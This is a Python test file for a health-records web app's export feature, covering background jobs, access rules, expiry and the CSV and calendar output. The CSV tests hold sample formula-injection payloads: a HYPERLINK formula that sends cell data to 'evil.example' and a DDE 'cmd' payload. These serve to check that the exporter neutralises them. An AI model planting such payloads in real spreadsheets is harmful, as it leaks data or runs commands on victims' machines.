"""Exports from the web: the page, background jobs, downloads, expiry, and the CSV and ICS files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import socket
import subprocess
import sys
import time
import zipfile
from typing import BinaryIO

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django_tasks_db.models import DBTaskResult
from icalendar import Calendar

from myhealthhub.accounts.models import User
from myhealthhub.audit.models import Action, AuditEvent
from myhealthhub.conftest import PASSWORD, World
from myhealthhub.documents import storage
from myhealthhub.documents.models import SealedFile
from myhealthhub.documents.usage import stored_bytes
from myhealthhub.exports import jobs
from myhealthhub.exports.csv import CsvExport, neutralised
from myhealthhub.exports.ics import CalendarExport
from myhealthhub.exports.models import ExportJob, ExportState
from myhealthhub.profiles.models import Profile, Role
from myhealthhub.records.actions import create_entry
from myhealthhub.records.kinds import KINDS
from myhealthhub.summary.options import ExportOptions

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def exports_url(world: World) -> str:
    return reverse("exports:list", kwargs={"profile_uuid": world.profile.uuid})


def fresh(client: Client, account: User) -> Client:
    """A session whose password was given again just now, as exporting everything asks."""
    session = client.session
    session["account_authentication_methods_user"] = str(account.pk)
    session["account_authentication_methods"] = [
        {"method": "password", "at": time.time(), "reauthenticated": True}
    ]
    session.save()
    return client


def start(world: World, caller: str = "owner", **data: str):
    client = fresh(world.client(caller), world.accounts[caller])
    return client.post(exports_url(world), {"language": "en", **data})


def new_jobs(world: World):
    """Export jobs besides those the World starts with."""
    return ExportJob.objects.exclude(pk__in=[world.export_job.pk, world.other.export_job.pk])


def only_job(world: World) -> ExportJob:
    return new_jobs(world).get(profile=world.profile, format="csv")


def unzip(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()
        }


def csv_of(profile: Profile, language: str = "en") -> bytes:
    out = io.BytesIO()
    CsvExport().write(profile, out, ExportOptions(language=language), lambda fraction: None)
    return out.getvalue()


# The job machinery, over HTTP.


def test_owner_exports_csv_in_the_background_and_downloads_it_decrypted(world: World):
    response = start(world, format="csv")
    job = only_job(world)
    assert response.status_code == 302
    assert response["Location"].endswith(f"#export-{job.uuid}")
    assert job.state == ExportState.DONE and job.percent == 100
    assert job.filename.endswith(".zip") and job.filename.startswith("ana-garcia-csv-")
    assert job.expires_at is not None and job.finished_at is not None
    assert job.expires_at - job.finished_at == jobs.EXPIRES_AFTER
    # At rest the result is ciphertext: neither a zip nor any word of the record.
    assert job.file is not None
    with storage.default_storage().open(job.file.name, "rb") as handle:
        raw = handle.read()
    assert not raw.startswith(b"PK") and b"Metformin" not in raw
    page = world.client("owner").get(exports_url(world))
    download = reverse("exports:download", args=[world.profile.uuid, job.uuid])
    assert download in page.content.decode()
    response = world.client("owner").get(download)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="{job.filename}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    tables = unzip(response.getvalue())
    assert any(row[0] == "Metformin" for row in tables["medications.csv"])
    events = AuditEvent.objects.filter(profile=world.profile, object_uuid=job.uuid)
    assert sorted(events.values_list("action", flat=True)) == [
        Action.EXPORT_DOWNLOADED,
        Action.EXPORT_STARTED,
    ]
    assert {event.object_type for event in events} == {"export.csv"}
    assert {event.actor for event in events} == {world.accounts["owner"]}


def test_the_page_polls_a_job_until_its_file_is_ready(world: World):
    job = jobs.start_export(
        world.profile,
        CsvExport(),
        ExportOptions(),
        actor=world.accounts["owner"],
        role=Role.OWNER,
        request=None,
        enqueue=False,
    )
    detail = reverse("exports:detail", args=[world.profile.uuid, job.uuid])
    client = world.client("owner")
    page = client.get(exports_url(world)).content.decode()
    assert 'role="status"' in page
    waiting = client.get(detail, headers={"HX-Request": "true"}).content.decode()
    assert 'hx-trigger="every 1s"' in waiting and "<progress" in waiting
    assert "?seen=queued-0" in waiting
    assert "<html" not in waiting
    # The live region is not in what a poll swaps: it stays, and speaks of changes.
    assert 'role="status"' not in waiting and "aria-live" not in waiting
    # Nothing new since the last poll: nothing to swap, nothing announced.
    unchanged = client.get(f"{detail}?seen=queued-0", headers={"HX-Request": "true"})
    assert unchanged.status_code == 204 and unchanged.content == b""
    jobs.run_job(job)
    ready = client.get(f"{detail}?seen=queued-0", headers={"HX-Request": "true"})
    assert ready.status_code == 200
    assert "hx-trigger" not in ready.content.decode()  # done: the polling stops
    download = reverse("exports:download", args=[world.profile.uuid, job.uuid])
    assert download in ready.content.decode()
    assert "<html" in client.get(detail).content.decode()


def test_exports_are_personal_to_who_started_them(world: World):
    start(world, format="csv")
    job = only_job(world)
    # A second owner of the same profile sees neither the job nor its file.
    from myhealthhub.profiles.actions import grant_access

    grant_access(
        world.profile,
        world.accounts["stranger"],
        Role.OWNER,
        actor=world.accounts["owner"],
        request=None,
        consent_note="Co-owner",
    )
    other = world.client("stranger")
    for name in ("exports:detail", "exports:download"):
        assert other.get(reverse(name, args=[world.profile.uuid, job.uuid])).status_code == 404
    assert str(job.uuid) not in other.get(exports_url(world)).content.decode()


def test_exporting_everything_asks_for_the_password_again(world: World):
    client = world.client("owner")
    response = client.post(exports_url(world), {"format": "csv", "language": "en"})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_reauthenticate"))
    assert not new_jobs(world).exists()
    # The password given, allauth replays the kept POST: the export starts.
    client.post(response["Location"], {"password": PASSWORD}, follow=True)
    assert only_job(world).state == ExportState.DONE
    # The calendar, which any viewer may have, asks for nothing more.
    calendar = world.client("owner").post(exports_url(world), {"format": "ics"})
    assert calendar.status_code == 200


def test_a_viewer_may_export_the_calendar_but_not_everything(world: World):
    page = world.client("viewer").get(exports_url(world)).content.decode()
    assert 'id="format-ics"' in page and 'id="format-csv"' not in page
    response = start(world, "viewer", format="ics")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar"
    assert response["Content-Disposition"].startswith('attachment; filename="ana-garcia-ics-')
    assert response["X-Content-Type-Options"] == "nosniff"
    calendar = Calendar.from_ical(response.getvalue())
    assert [str(event["uid"]) for event in calendar.walk("VEVENT")] == [
        f"{world.appointment.uuid}@myhealthhub"
    ]
    assert AuditEvent.objects.filter(
        actor=world.accounts["viewer"], action=Action.EXPORT_STARTED, object_type="export.ics"
    ).exists()
    # As the gate answers what the caller may not see: 404, and nothing made.
    assert start(world, "viewer", format="csv").status_code == 404
    assert start(world, "editor", format="csv").status_code == 404
    assert start(world, "owner", format="no-such-format").status_code == 404
    assert not new_jobs(world).exists()


def test_a_plan_without_the_format_refuses_it_and_makes_nothing(world: World, settings):
    settings.PLANS = {"basic": {"name": "Basic", "features": ["export.ics"]}}
    settings.DEFAULT_PLAN = "basic"
    page = world.client("owner").get(exports_url(world)).content.decode()
    assert "Not included in the plan of this profile." in page
    response = start(world, format="csv")
    assert response.status_code == 400
    assert "The plan of this profile does not include exports as Spreadsheets (CSV)." in (
        response.content.decode()
    )
    assert not new_jobs(world).exists()
    assert (
        not AuditEvent.objects.filter(action=Action.EXPORT_STARTED, object_type="export.csv")
        .exclude(object_uuid__in=[world.export_job.uuid, world.other.export_job.uuid])
        .exists()
    )
    assert start(world, format="ics").status_code == 200
    # A result made before the plan changed is no longer handed out either.
    download = reverse("exports:download", args=[world.profile.uuid, world.export_job.uuid])
    assert world.client("owner").get(download).status_code == 302


PLANS = {
    "basic": {"name": "Basic", "features": []},
    "full": {"name": "Full", "features": ["*"]},
}


def on_plans(world: World, *, owner: str, viewer: str) -> None:
    User.objects.filter(pk=world.accounts["owner"].pk).update(plan=owner)
    User.objects.filter(pk=world.accounts["viewer"].pk).update(plan=viewer)


def test_a_caregiver_exports_on_the_owner_s_plan_not_their_own(world: World, settings):
    settings.PLANS = PLANS
    settings.DEFAULT_PLAN = "basic"
    ics = CalendarExport()
    # The owner's plan lacks the calendar; the viewer's has everything: refused.
    on_plans(world, owner="basic", viewer="full")
    assert not jobs.plan_allows_profile(world.profile, ics)
    page = world.client("viewer").get(exports_url(world)).content.decode()
    assert "Not included in the plan of this profile." in page
    refused = start(world, "viewer", format="ics")
    assert refused.status_code == 400
    assert "does not include exports as" in refused.content.decode()
    # The other way round: the owner's plan has it, the viewer's does not: allowed.
    on_plans(world, owner="full", viewer="basic")
    assert jobs.plan_allows_profile(world.profile, ics)
    page = world.client("viewer").get(exports_url(world)).content.decode()
    assert "Not included in the plan of this profile." not in page
    allowed = start(world, "viewer", format="ics")
    assert allowed.status_code == 200 and allowed["Content-Type"] == "text/calendar"


def test_a_second_start_while_one_is_written_gives_that_one(world: World):
    owner = world.accounts["owner"]
    first = jobs.start_export(
        world.profile,
        CsvExport(),
        ExportOptions(),
        actor=owner,
        role=Role.OWNER,
        request=None,
        enqueue=False,
    )
    assert first.state == ExportState.QUEUED
    again = jobs.start_export(
        world.profile, CsvExport(), ExportOptions(), actor=owner, role=Role.OWNER, request=None
    )
    assert again.pk == first.pk
    response = start(world, format="csv")
    assert response.status_code == 302 and response["Location"].endswith(f"#export-{first.uuid}")
    assert list(new_jobs(world).values_list("pk", flat=True)) == [first.pk]
    started = AuditEvent.objects.filter(action=Action.EXPORT_STARTED, object_uuid=first.uuid)
    assert started.count() == 1
    # Running counts the same; once it is done, a new one may start.
    ExportJob.objects.filter(pk=first.pk).update(state=ExportState.RUNNING)
    assert start(world, format="csv")["Location"].endswith(f"#export-{first.uuid}")
    ExportJob.objects.filter(pk=first.pk).update(state=ExportState.FAILED)
    start(world, format="csv")
    assert new_jobs(world).count() == 2


def test_export_results_take_no_room_from_the_owner_s_storage(world: World):
    owner = world.accounts["owner"]
    before = stored_bytes(owner)
    start(world, format="csv")
    job = only_job(world)
    assert job.file is not None and job.file.size > 0
    assert stored_bytes(owner) == before


def test_an_empty_or_bad_form_is_refused_with_a_message(world: World):
    response = world.client("owner").post(exports_url(world), {})
    assert response.status_code == 400
    assert "Choose one of the formats" in response.content.decode()
    assert start(world, format="csv", language="fr").status_code == 400
    assert not new_jobs(world).exists()


def test_the_language_defaults_to_the_profile_s(world: World):
    fresh(world.client("owner"), world.accounts["owner"]).post(
        exports_url(world), {"format": "csv"}
    )
    assert only_job(world).options["language"] == world.profile.language == "es"


def test_an_expired_result_is_gone_after_cleanup(world: World, django_capture_on_commit_callbacks):
    start(world, format="csv")
    job = only_job(world)
    assert job.file is not None
    name = job.file.name
    assert jobs.remove_expired() == 0  # not yet
    assert jobs.remove_expired_exports.call() == 0  # the scheduled task, run early
    assert storage.default_storage().exists(name)
    later = timezone.now() + jobs.EXPIRES_AFTER + dt.timedelta(minutes=1)
    with django_capture_on_commit_callbacks(execute=True):
        # This one and the World's two.
        assert jobs.remove_expired(later) == 3
    job.refresh_from_db()
    assert job.state == ExportState.EXPIRED and job.file is None
    assert not SealedFile.objects.filter(name=name).exists()
    assert not storage.default_storage().exists(name)
    download = reverse("exports:download", args=[world.profile.uuid, job.uuid])
    response = world.client("owner").get(download, follow=True)
    assert "no longer available" in response.content.decode()


def test_each_result_is_removed_by_a_task_scheduled_at_its_expiry(
    world: World, settings, django_capture_on_commit_callbacks
):
    # The backend the worker reads, which keeps tasks for later.
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    job = jobs.start_export(
        world.profile,
        CsvExport(),
        ExportOptions(),
        actor=world.accounts["owner"],
        role=Role.OWNER,
        request=None,
    )
    jobs.run_job(job)
    job.refresh_from_db()
    assert job.state == ExportState.DONE and job.file is not None
    scheduled = DBTaskResult.objects.filter(task_path__endswith=".remove_expired_exports")
    assert [result.run_after for result in scheduled] == [job.expires_at]
    name = job.file.name
    assert job.expires_at is not None
    with (
        time_machine.travel(job.expires_at + dt.timedelta(seconds=1), tick=False),
        django_capture_on_commit_callbacks(execute=True),
    ):
        assert scheduled[0].task.call() >= 1  # what the worker runs, when it is due
    job.refresh_from_db()
    assert job.state == ExportState.EXPIRED and job.file is None
    assert not storage.default_storage().exists(name)


def test_a_result_past_its_time_is_refused_even_before_cleanup(world: World):
    start(world, format="csv")
    job = only_job(world)
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - dt.timedelta(1))
    download = reverse("exports:download", args=[world.profile.uuid, job.uuid])
    response = world.client("owner").get(download)
    assert response.status_code == 302
    assert not AuditEvent.objects.filter(action=Action.EXPORT_DOWNLOADED).exists()


class BrokenExport(CsvExport):
    """Writes part of its file, then breaks, as a bug or a full disk would."""

    slug = "broken"

    def write(self, profile, out: BinaryIO, options, progress) -> None:
        out.write(b"half a file")
        progress(0.5)
        raise RuntimeError("the exporter broke")


@pytest.fixture
def broken_format(monkeypatch):
    registry = {"csv": CsvExport(), "ics": CalendarExport(), "broken": BrokenExport()}
    monkeypatch.setattr(jobs, "exporters", lambda: registry)


def test_a_failing_exporter_fails_its_job_and_keeps_nothing(world: World, broken_format):
    sealed_before = SealedFile.objects.count()
    response = start(world, format="broken")
    assert response.status_code == 302
    job = ExportJob.objects.get(format="broken")
    assert job.state == ExportState.FAILED and job.file is None
    assert job.message == jobs.FAILED
    assert SealedFile.objects.count() == sealed_before
    folder = f"exports/{world.profile.uuid}/{job.uuid}"
    assert not storage.default_storage().exists(folder) or not any(
        storage.default_storage().listdir(folder)
    )
    page = world.client("owner").get(exports_url(world)).content.decode()
    assert "Something went wrong while writing this export" in page
    download = reverse("exports:download", args=[world.profile.uuid, job.uuid])
    assert world.client("owner").get(download).status_code == 302


def test_a_job_whose_worker_died_is_failed_and_its_stray_file_removed(world: World):
    job = ExportJob.objects.create(
        profile=world.profile,
        format="csv",
        created_by=world.accounts["owner"],
        state=ExportState.RUNNING,
        heartbeat_at=timezone.now() - jobs.SILENT_FOR - dt.timedelta(minutes=1),
    )
    folder = f"exports/{world.profile.uuid}/{job.uuid}"
    stray = storage.put(io.BytesIO(b"sealed, never recorded"), master_key=b"k" * 32, folder=folder)
    assert jobs.clean_up() == (0, 1)
    job.refresh_from_db()
    assert job.state == ExportState.FAILED and job.message == jobs.ABANDONED
    assert not storage.default_storage().exists(stray.name)


def test_a_job_held_by_a_dead_process_on_this_host_is_failed_at_once(world: World):
    # A process that has come and gone: its pid names no one now.
    gone = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True
    )
    host = socket.gethostname()

    def running(worker: str, format: str) -> ExportJob:
        return ExportJob.objects.create(
            profile=world.profile,
            format=format,
            created_by=world.accounts["owner"],
            state=ExportState.RUNNING,
            worker=worker,
            heartbeat_at=timezone.now(),  # it spoke a moment ago
        )

    dead = running(f"{host}:{int(gone.stdout)}", "csv")
    folder = f"exports/{world.profile.uuid}/{dead.uuid}"
    stray = storage.put(io.BytesIO(b"sealed, never recorded"), master_key=b"k" * 32, folder=folder)
    alive = running(f"{host}:{os.getppid()}", "ics")
    elsewhere = running("another-host:1", "pdf")
    mine = running(f"{host}:{os.getpid()}", "fhir")
    # Before an export, this process counts as alive: it may be writing its own job.
    assert jobs.clean_up(at_worker_start=False) == (0, 1)
    # As a worker starts, a job named by its own pid was an earlier process's.
    assert jobs.clean_up() == (0, 1)
    states = dict(ExportJob.objects.values_list("pk", "state"))
    assert states[dead.pk] == states[mine.pk] == ExportState.FAILED
    assert states[alive.pk] == states[elsewhere.pk] == ExportState.RUNNING
    assert not storage.default_storage().exists(stray.name)


def test_a_job_is_claimed_in_the_name_of_its_process(world: World):
    job = ExportJob.objects.get(pk=world.export_job.pk)
    assert job.worker == f"{socket.gethostname()}:{os.getpid()}"


def test_the_page_s_queries_do_not_grow_with_its_jobs(world: World):
    client = world.client("owner")
    client.get(exports_url(world))  # warm: session, sites, translations
    with CaptureQueriesContext(connection) as one_job:
        client.get(exports_url(world))
    for _each in range(3):
        start(world, format="csv")
    with CaptureQueriesContext(connection) as four_jobs:
        page = client.get(exports_url(world))
    assert page.content.decode().count('class="export-job"') == 4
    assert len(four_jobs) == len(one_job)


def test_head_on_a_download_neither_decrypts_nor_audits(world: World):
    job = world.export_job
    assert job.file is not None
    download = reverse("exports:download", args=[world.profile.uuid, job.uuid])
    # A damaged file would fail any read: HEAD answers all the same, so it read nothing.
    store = storage.default_storage()
    with store.open(job.file.name, "rb") as handle:
        sealed = handle.read()
    store.delete(job.file.name)
    store.save(job.file.name, io.BytesIO(sealed[:10] + b"x" + sealed[11:]))
    try:
        response = world.client("owner").head(download)
    finally:
        # The standing world's export, whole again for the tests after this one.
        store.delete(job.file.name)
        store.save(job.file.name, io.BytesIO(sealed))
    assert response.status_code == 200
    assert response.content == b""
    assert response["Content-Length"] == str(job.file.size)
    assert response["Content-Disposition"] == f'attachment; filename="{job.filename}"'
    assert not AuditEvent.objects.filter(action=Action.EXPORT_DOWNLOADED).exists()


# The CSV file.


def test_csv_has_every_alive_entry_once_per_kind_with_source_and_dates(world: World):
    owner = world.accounts["owner"]
    create_entry(
        KINDS["conditions"],
        world.profile,
        actor=owner,
        request=None,
        values={"display": "Asthma", "date": dt.date(2016, 1, 1), "date_precision": "year"},
    )
    create_entry(
        KINDS["procedures"],
        world.profile,
        actor=owner,
        request=None,
        values={"display": "Appendectomy", "date": dt.date(2016, 3, 1), "date_precision": "month"},
    )
    data = csv_of(world.profile)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert all(archive.read(name).startswith(b"\xef\xbb\xbf") for name in archive.namelist())
    tables = unzip(data)
    for kind in KINDS.values():
        alive = {
            str(uuid)
            for uuid in kind.queryset(world.profile).alive().values_list("uuid", flat=True)
        }
        if not alive:
            assert f"{kind.slug}.csv" not in tables
            continue
        header, *rows = tables[f"{kind.slug}.csv"]
        assert header[-4:] == ["Codes", "Source", "Source facility", "UUID"]
        assert sorted(row[-1] for row in rows) == sorted(alive)
        assert all(row[-3] for row in rows), "every row names its source"
    conditions = tables["conditions.csv"]
    assert [row[0] for row in conditions[1:]] == ["Asthma"]  # the deleted one left out
    since = conditions[0].index("Since")
    assert conditions[1][since] == "2016"
    procedures = tables["procedures.csv"]
    assert procedures[1][procedures[0].index("Date")] == "2016-03"
    results = tables["results.csv"]
    assert results[1][results[0].index("Date")] == "2025-09-01"
    assert results[1][results[0].index("Codes")] == "http://loinc.org|4548-4"
    assert "Luis García" in {row[0] for row in tables["emergency-contacts.csv"]}
    documents = tables["documents.csv"]
    titles = {row[0]: row for row in documents[1:]}
    assert "old.txt" not in titles  # deleted
    assert "Hospital Clínico" in titles["informe de alta.txt"]
    assert world.document.sha256 in titles["informe de alta.txt"]


def test_csv_neutralises_a_formula_typed_as_a_name(world: World):
    create_entry(
        KINDS["allergies"],
        world.profile,
        actor=world.accounts["owner"],
        request=None,
        values={"display": INJECTION, "notes": "+SUM(1,2)"},
    )
    create_entry(
        KINDS["allergies"],
        world.profile,
        actor=world.accounts["owner"],
        request=None,
        values={"display": "Aspirin;=1+1;@SUM(1+1)"},
    )
    data = csv_of(world.profile)
    rows = {row[0]: row for row in unzip(data)["allergies.csv"][1:]}
    row = rows["'" + INJECTION]
    assert "'+SUM(1,2)" in row
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    # Every cell quoted, so a ";"-splitting spreadsheet (Spanish Excel) keeps it one cell.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("allergies.csv").decode("utf-8-sig")
    assert '"Aspirin;=1+1;@SUM(1+1)"' in text
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"')


def test_neutralising_keeps_numbers_and_plain_text():
    assert neutralised("-3.5") == "-3.5"
    assert neutralised("1e-3") == "1e-3"
    assert neutralised("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert neutralised("@SUM(A1)") == "'@SUM(A1)"
    assert neutralised("\t=1") == "'\t=1"
    assert neutralised("Metformin") == "Metformin"


def test_csv_headers_follow_the_chosen_language(world: World):
    english = unzip(csv_of(world.profile, "en"))["medications.csv"][0]
    spanish = unzip(csv_of(world.profile, "es"))["medications.csv"][0]
    assert english[0] == "Medicine" and len(english) == len(spanish)
    assert english[-1] == spanish[-1] == "UUID"


def test_csv_reports_progress_up_to_the_end(world: World):
    seen: list[float] = []
    CsvExport().write(world.profile, io.BytesIO(), ExportOptions(), seen.append)
    assert seen[-1] == 1.0 and all(0 <= value <= 1 for value in seen)


# The calendar file.


def test_ics_parses_back_with_the_profile_s_appointments(world: World):
    past = create_entry(
        KINDS["appointments"],
        world.profile,
        actor=world.accounts["owner"],
        request=None,
        values={
            "display": "Dentist",
            "starts_at": timezone.now() - dt.timedelta(days=40),
            "facility": "Clínica Dental",
        },
    )
    out = io.BytesIO()
    CalendarExport().write(world.profile, out, ExportOptions(), lambda fraction: None)
    events = {
        str(event["uid"]): event for event in Calendar.from_ical(out.getvalue()).walk("VEVENT")
    }
    assert set(events) == {f"{world.appointment.uuid}@myhealthhub", f"{past.uuid}@myhealthhub"}
    assert str(events[f"{past.uuid}@myhealthhub"]["summary"]).startswith("Dentist")
    assert str(events[f"{past.uuid}@myhealthhub"]["location"]) == "Clínica Dental"


# The other engineers' formats, through the same page and machinery.


@pytest.mark.parametrize(
    ("slug", "starts"),
    [("pdf", b"%PDF"), ("ips", b"{"), ("fhir", b"{"), ("archive", b"PK")],
)
def test_every_format_exports_from_the_page(world: World, slug: str, starts: bytes):
    response = start(world, format=slug, paper="letter")
    if response.status_code == 302:  # a background format: its job is done, download it
        job = new_jobs(world).get(format=slug)
        assert job.state == ExportState.DONE, job.message
        response = world.client("owner").get(
            reverse("exports:download", args=[world.profile.uuid, job.uuid])
        )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.getvalue().startswith(starts)
    assert AuditEvent.objects.filter(
        action=Action.EXPORT_DOWNLOADED, object_type=f"export.{slug}"
    ).exists()
